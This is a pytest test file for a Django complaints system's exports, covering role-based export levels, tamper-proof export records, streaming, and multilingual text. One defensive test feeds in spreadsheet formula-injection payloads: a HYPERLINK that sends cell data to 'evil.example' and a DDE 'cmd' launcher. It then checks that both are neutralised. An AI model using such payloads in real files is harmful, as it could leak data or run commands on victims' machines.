"""Case-list exports: what each level holds, who may make them, the record, the cells."""

import csv
import hashlib
import io
import secrets

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from complaints.models import Complaint
from complaints.services import complaint_submit
from monitoring import exports
from monitoring.cases.services import case_move
from monitoring.exports import FORMULA_STARTS, csv_chunks, export_start, export_stream, neutralise
from monitoring.models import (
    AccessAction,
    AccessEvent,
    ExportEnd,
    ExportFormat,
    ExportLevel,
    ExportOutcome,
    ExportRecord,
    ExportSource,
)
from tests.filing import MARKERS, cleaned_steps, step_data
from tests.monitoring.appeal_body import decided_case
from tests.monitoring.cast import client_of, give, member

EXPORT = reverse("admin:complaints_complaint_export")

FRENCH = "Arrêté à Kigali « sans mandat », détenu à Gikondo — été 2023"
KINYARWANDA = "Abasirikare baraje mu ijoro, bafata musaza wanjye; ntituzi aho ari."


def filed(*, now, narrative: str = MARKERS["narrative"], place: str = "Kigali", **what):
    data = step_data(what={"narrative": narrative, "incident_place": place, **what})
    return complaint_submit(
        steps=cleaned_steps(data),
        evidence=[],
        language="fr",
        token=secrets.token_urlsafe(32),
        now=now,
    ).complaint


def export(client, *, level="case_list", file_format="csv", purpose="", query=""):
    response = client.post(
        f"{EXPORT}{query}", {"level": level, "file_format": file_format, "purpose": purpose}
    )
    if response.status_code != 200 or not response.streaming:
        return response, None
    return response, b"".join(response.streaming_content)


def recorded(*, by, level=ExportLevel.CASE_LIST):
    """An export about to be made from the page, as the service records it."""
    return export_start(
        by=by,
        level=level,
        file_format=ExportFormat.CSV,
        source=ExportSource.ADMIN,
        filters="",
        purpose="",
    )


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.fixture
def chair_client(chair):
    return client_of(chair)


# --- levels and permissions ----------------------------------------------------------------------


def test_the_case_list_level_holds_structured_fields_and_no_free_text_or_identity(
    data_officer, now
):
    complaint = filed(now=now, place="Zxqplace Gikondo")

    response, body = export(client_of(data_officer))

    rows = csv_rows(body)
    assert response["Content-Type"].startswith("text/csv")
    assert "no-store" in response["Cache-Control"]
    header, row = rows[0], rows[1]
    assert len(rows) == 2
    cells = dict(zip(header, row, strict=True))
    assert cells["reference"] == complaint.reference
    assert cells["status"] == "Received"
    assert cells["country where it happened"] == "Rwanda"
    assert cells["when it happened"] == "2023-05"
    assert cells["who did it"] == "Police"
    assert cells["complainant's residence status"].startswith("Refugee")
    assert cells["violations"]  # the category's label
    text = body.decode("utf-8-sig")
    for secret in [MARKERS["narrative"], MARKERS["name"], "Zxqplace", "+256 700", "UG-123"]:
        assert secret not in text


def test_the_narrative_level_adds_the_facts_and_decision_but_no_identity(
    chair, member_rapporteur, now
):
    complaint = decided_case(rapporteur=member_rapporteur, chair=chair, now=now)

    _response, body = export(client_of(chair), level="narrative")

    cells = dict(zip(*csv_rows(body)[:2], strict=True))
    assert cells["reference"] == complaint.reference
    assert cells["what happened, in order"] == MARKERS["narrative"]
    assert cells["reasons for the decision"] == "The arrest was arbitrary."
    assert cells["recommendations"] == "Release and compensate."
    assert cells["decision"] == "Decision on the facts"
    assert cells["rapporteur"] == member_rapporteur.username
    assert MARKERS["name"] not in body.decode("utf-8-sig")
    assert "+256 700" not in body.decode("utf-8-sig")


def test_the_identity_level_adds_who_filed_and_the_victims_for_a_stated_purpose(chair, now):
    filed(now=now)

    _response, body = export(
        client_of(chair), level="identity", purpose="Referral to UNHCR protection."
    )

    cells = dict(zip(*csv_rows(body)[:2], strict=True))
    assert cells["name"] == MARKERS["name"]
    assert cells["contact details"] == "'+256 700 000000"  # neutralised: a leading +
    assert cells["UNHCR registration number"] == "UG-123"
    assert cells["victims"].startswith("1. ")
    record = ExportRecord.objects.get()
    assert record.purpose == "Referral to UNHCR protection."


def test_identity_is_not_exported_without_a_purpose(chair, now):
    filed(now=now)

    response, body = export(client_of(chair), level="identity", purpose="  ")

    assert body is None
    assert response.status_code == 200
    assert "Say what the identities are exported for." in response.content.decode()
    assert not ExportRecord.objects.exists()


def test_contact_details_of_someone_who_withdrew_contact_consent_are_left_out(chair, now):
    complaint = filed(now=now)
    Complaint.objects.filter(pk=complaint.pk).update(consent_contact=False)

    _response, body = export(client_of(chair), level="identity", purpose="Case review.")

    cells = dict(zip(*csv_rows(body)[:2], strict=True))
    assert cells["name"] == MARKERS["name"]
    assert cells["contact details"] == "(not to be contacted)"
    assert "+256 700" not in body.decode("utf-8-sig")


@pytest.mark.parametrize(
    ("role", "levels"),
    [
        ("Data officer", ["case_list"]),
        ("Committee chair", ["case_list", "narrative", "identity"]),
        ("Rapporteur", []),
        ("Intake officer", []),
        ("Appeal judge", []),
        ("Administrator", []),
    ],
)
def test_each_role_may_export_only_its_levels(django_user_model, role, levels, now):
    filed(now=now)
    client = client_of(member(django_user_model, "someone", role))

    for level in ["case_list", "narrative", "identity"]:
        response, body = export(client, level=level, purpose="A stated purpose.")
        if level in levels:
            assert body is not None, (role, level)
        else:
            assert body is None, (role, level)
            assert response.status_code in {200, 403, 404}, (role, level)
    assert ExportRecord.objects.count() == len(levels)
    assert set(ExportRecord.objects.values_list("level", flat=True)) == set(levels)


def test_an_outsider_gets_no_export_page_and_no_file(outsider, now):
    from tests.monitoring.staff import PASSWORD

    outsider.is_staff = True
    outsider.set_password(PASSWORD)
    outsider.save()
    from django_otp.plugins.otp_totp.models import TOTPDevice

    TOTPDevice.objects.create(user=outsider, name="Phone", confirmed=True)
    filed(now=now)
    client = client_of(outsider)

    assert client.get(EXPORT).status_code == 403
    response, body = export(client)
    assert body is None
    assert response.status_code == 403
    assert not ExportRecord.objects.exists()


def test_a_member_given_the_narrative_export_gets_the_facts_of_their_own_cases_only(
    member_rapporteur, chair, now
):
    own, other = filed(now=now), filed(now=now)
    give(own, member_rapporteur, by=chair, now=now)
    member_rapporteur.user_permissions.add(
        *Permission.objects.filter(codename__in=["export_case_list", "export_narrative"])
    )

    _response, body = export(client_of(member_rapporteur), level="narrative")

    references = [row[0] for row in csv_rows(body)[1:]]
    assert references == [own.reference]
    assert other.reference not in body.decode("utf-8-sig")


# --- what the list shows -------------------------------------------------------------------------


def test_the_export_holds_exactly_the_filtered_and_searched_list(
    data_officer, chair, member_rapporteur, now
):
    triaged, received = filed(now=now), filed(now=now)
    give(triaged, member_rapporteur, by=chair, now=now)
    case_move(
        complaint=triaged, to="triage", by=member_rapporteur, expected_status="received", now=now
    )
    client = client_of(data_officer)

    _r, by_status = export(client, query="?status__exact=triage")
    _r, by_search = export(client, query=f"?q={received.reference[4:8]}")

    assert [row[0] for row in csv_rows(by_status)[1:]] == [triaged.reference]
    assert received.reference in [row[0] for row in csv_rows(by_search)[1:]]
    assert ExportRecord.objects.filter(filters="status__exact=triage").exists()


def test_the_list_offers_the_export_of_its_own_filters(data_officer, now):
    filed(now=now)
    client = client_of(data_officer)

    page = client.get(reverse("admin:complaints_complaint_changelist") + "?status__exact=triage")

    assert f'href="{EXPORT}?status__exact=triage"' in page.content.decode()
    form = client.get(f"{EXPORT}?status__exact=triage").content.decode()
    assert "Triage" in form  # the filter in words
    assert "Export and record" in form


@pytest.mark.parametrize(
    "query", ["?status__exact=nonsense", "?queue=nonsense", "?group=nowhere", "?secret_field=1"]
)
def test_a_filter_value_that_does_not_exist_gives_a_message_not_an_empty_file(
    data_officer, now, query
):
    filed(now=now)
    client = client_of(data_officer)

    response, body = export(client, query=query)

    assert body is None
    assert response.status_code == 302
    shown = client.get(response["Location"]).content.decode()
    assert "has no value" in shown or "has no such filter" in shown
    assert not ExportRecord.objects.exists()


# --- the record ----------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_each_export_is_recorded_with_the_sha256_of_the_file_sent(data_officer, now, file_format):
    for _ in range(3):
        filed(now=now)
    client = client_of(data_officer)

    _response, body = export(client, file_format=file_format, query="?status__exact=received")

    record = ExportRecord.objects.get()
    assert (record.actor, record.level, record.file_format) == (
        data_officer,
        ExportLevel.CASE_LIST,
        file_format,
    )
    assert record.source == ExportSource.ADMIN
    assert record.filters == "status__exact=received"
    assert record.end.outcome == ExportOutcome.COMPLETE
    assert record.end.row_count == 3
    assert record.end.sha256 == hashlib.sha256(body).hexdigest()
    assert AccessEvent.objects.filter(action=AccessAction.EXPORT, actor=data_officer).count() == 1
    # ... and the fingerprint is shown to the exporter on the export page.
    assert record.end.sha256 in client.get(EXPORT).content.decode()


def test_the_record_cannot_be_rewritten(data_officer, now):
    from django.db import DatabaseError, transaction

    filed(now=now)
    export(client_of(data_officer))
    end = ExportEnd.objects.get()

    with pytest.raises(DatabaseError), transaction.atomic():
        ExportEnd.objects.filter(pk=end.pk).update(row_count=0)
    with pytest.raises(DatabaseError), transaction.atomic():
        ExportRecord.objects.filter(pk=end.record_id).update(purpose="nothing to see")


def test_an_export_cut_off_by_the_client_is_recorded_as_cut_off_and_closes_its_cursor(
    data_officer, now
):
    for _ in range(5):
        filed(now=now)
    record = recorded(by=data_officer)
    stream = export_stream(record=record, cases=Complaint.objects.all(), language="en")

    next(stream)  # the header went, then the client went away
    stream.close()

    end = ExportEnd.objects.get(record=record)
    assert end.outcome == ExportOutcome.INTERRUPTED
    assert end.sha256 == ""
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM pg_cursors")
            assert cursor.fetchone()[0] == 0


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL's cursors")
@pytest.mark.parametrize("level", [ExportLevel.CASE_LIST, ExportLevel.NARRATIVE])
def test_the_rows_stream_from_a_cursor_in_a_transaction_not_one_held_whole(
    transactional_db, seed_data, roles, data_officer, chair, now, level, monkeypatch
):
    # Outside a transaction (as in production: autocommit), PostgreSQL would compute and keep
    # the whole result of a WITH HOLD cursor before sending its first row.
    monkeypatch.setattr(exports, "CHUNK_ROWS", 4)  # so that rows are left to read
    for _ in range(9):
        filed(now=now)
    record = recorded(by=chair, level=level)
    stream = export_stream(record=record, cases=Complaint.objects.all(), language="en")

    next(stream), next(stream)
    with connection.cursor() as cursor:
        cursor.execute("SELECT is_holdable FROM pg_cursors")
        held = [row[0] for row in cursor.fetchall()]
        cursor.execute("SHOW idle_in_transaction_session_timeout")
        idle = cursor.fetchone()[0]
    rest = b"".join(stream)

    assert held == [False]
    assert idle == "10min"
    assert rest.count(b"\r\n") >= 4  # the rows after the first chunk
    assert ExportEnd.objects.get(record=record).outcome == ExportOutcome.COMPLETE


def test_the_query_count_does_not_grow_with_the_rows(db, now):
    def queries_for(count: int) -> int:
        while Complaint.objects.count() < count:
            filed(now=now)
        with CaptureQueriesContext(connection) as queries:
            list(exports.export_rows(Complaint.objects.all(), ExportLevel.NARRATIVE, language="en"))
        return len(queries)

    few = queries_for(3)
    exports.CHUNK_ROWS, chunk = 2, exports.CHUNK_ROWS  # several chunks of a server-side cursor
    try:
        many = queries_for(9)
    finally:
        exports.CHUNK_ROWS = chunk
    assert many == few


# --- the cells -----------------------------------------------------------------------------------


@given(st.text())
def test_no_cell_can_start_a_formula(text):
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.endswith(text)  # nothing of the text is lost
    assert cell == text or cell == "'" + text


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=5))
def test_the_csv_reads_back_cell_for_cell(rows):
    neutral = [[neutralise(cell) for cell in row] for row in rows]

    body = b"".join(csv_chunks(["a"], iter(neutral)))

    read = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert read[1:] == neutral
    assert not any(cell.startswith(FORMULA_STARTS) for row in read[1:] for cell in row)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_typed_by_a_complainant_reaches_the_file_as_text(chair, now, file_format):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    filed(now=now, narrative=formula, place="+cmd|' /C calc'!A0")

    _response, body = export(client_of(chair), level="narrative", file_format=file_format)

    cells = read_back(body, file_format)
    assert cells["what happened, in order"] == "'" + formula
    assert cells["place"] == "'+cmd|' /C calc'!A0"


def read_back(body: bytes, file_format: str) -> dict[str, str]:
    if file_format == "csv":
        return dict(zip(*csv_rows(body)[:2], strict=True))
    sheet = openpyxl.load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
    header, row = list(sheet.iter_rows(min_row=1, max_row=2, values_only=True))
    for cell in sheet.iter_rows():  # no cell of the sheet is a formula
        assert all(c.data_type != "f" for c in cell)
    return dict(zip(header, [v or "" for v in row], strict=True))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["fr", "rw"])
def test_french_and_kinyarwanda_text_round_trips(chair, now, file_format, language):
    filed(now=now, narrative=f"{FRENCH}\n{KINYARWANDA}", place="Nyamirambo, Ku Mumena")
    client = client_of(chair)
    client.cookies["django_language"] = language

    _response, body = export(client, level="narrative", file_format=file_format)

    cells = read_back(body, file_format)
    values = list(cells.values())
    assert f"{FRENCH}\n{KINYARWANDA}" in values
    assert "Nyamirambo, Ku Mumena" in values
    assert "Rwanda" in values


# --- the command ---------------------------------------------------------------------------------


def test_the_command_exports_the_same_list_and_prints_its_fingerprint(
    data_officer, tmp_path, now, capsys
):
    triaged_filter = "status__exact=received"
    for _ in range(2):
        filed(now=now)
    out = tmp_path / "cases.csv"

    call_command(
        "export_complaints", user="data", filter=[triaged_filter], output=str(out), format="csv"
    )

    body = out.read_bytes()
    record = ExportRecord.objects.get()
    assert record.source == ExportSource.COMMAND
    assert record.filters == triaged_filter
    assert record.end.sha256 == hashlib.sha256(body).hexdigest()
    assert len(csv_rows(body)) == 3
    assert record.end.sha256 in capsys.readouterr().err


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"filter": ["status__exact=nonsense"]}, "has no value"),
        ({"filter": ["status"]}, "NAME=VALUE"),
        ({"level": "narrative"}, "may not export"),
        ({"user": "nobody"}, "No active staff account"),
    ],
)
def test_the_command_refuses_what_the_page_refuses(data_officer, tmp_path, options, message):
    with pytest.raises(CommandError, match=message):
        call_command(
            "export_complaints", **{"user": "data", "output": str(tmp_path / "x.csv"), **options}
        )
    assert not ExportRecord.objects.exists()


def test_an_identity_export_is_recorded_against_each_case_it_holds(chair, now):
    cases = [filed(now=now), filed(now=now)]

    export(client_of(chair), level="identity", purpose="Referral to UNHCR protection.")

    for case in cases:
        event = AccessEvent.objects.get(
            action=AccessAction.EXPORT, complaint_reference=case.reference
        )
        assert event.actor == chair
        assert "Referral to UNHCR protection." in event.reason


def test_a_case_list_export_is_not_recorded_against_each_case(data_officer, now):
    filed(now=now)

    export(client_of(data_officer))

    assert not AccessEvent.objects.exclude(complaint_reference="").exists()


def test_an_export_closed_before_its_first_byte_still_gets_its_end(data_officer, now):
    filed(now=now)
    record = recorded(by=data_officer)

    export_stream(record=record, cases=Complaint.objects.all(), language="en").close()

    end = ExportEnd.objects.get(record=record)
    assert (end.outcome, end.row_count, end.sha256) == (ExportOutcome.INTERRUPTED, 0, "")


def test_the_chair_reviews_every_export_and_the_data_officer_only_their_own(
    chair, data_officer, now
):
    filed(now=now)
    export(client_of(data_officer), query="?status__exact=received")
    end = ExportEnd.objects.get()

    listed = client_of(chair).get(reverse("admin:monitoring_exportrecord_changelist"))

    assert listed.status_code == 200
    text = listed.content.decode()
    assert "status__exact=received" in text
    assert end.sha256 in text
    assert (
        client_of(data_officer).get(reverse("admin:monitoring_exportrecord_changelist")).status_code
        == 403
    )
